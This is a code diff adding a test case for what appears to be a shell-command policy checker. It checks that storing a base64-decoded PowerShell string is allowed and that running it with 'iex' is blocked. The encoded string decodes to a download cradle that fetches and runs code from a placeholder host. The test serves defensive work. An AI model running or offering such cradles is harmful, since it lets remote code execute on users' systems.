@@ -80,6 +80,25 @@ describe('encoded commands', () => {
     expect(codes(text, shell)).not.toContain('encoded_command');
     expect(codes(text, shell)).not.toContain('obfuscation');
   });
+
+  // The decoded text is a cradle, but storing it runs nothing: only running the variable does (a later line).
+  const decodedCradle = "'SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgALwBhACkA'";
+  it('allows a cradle decoded into a variable, and blocks where the variable is run', () => {
+    const decode = `$c = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(${decodedCradle}))`;
+    expect(evaluate(decode, 'powershell').decision).toBe('allow');
+    expect(
+      evaluate('$c = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b))', 'powershell', [`$b = ${decodedCradle}`])
+        .decision,
+    ).toBe('allow');
+    expect(evaluate('iex $c', 'powershell', [decode]).decision).toBe('block');
+    expect(evaluate(`${decode}; iex $c`, 'powershell').decision).toBe('block');
+    expect(evaluate(`iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(${decodedCradle})))`, 'powershell').decision).toBe(
+      'block',
+    );
+    expect(evaluate(`[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(${decodedCradle})) | iex`, 'powershell').decision).toBe(
+      'block',
+    );
+  });
 });
 
 describe('obfuscation', () => {
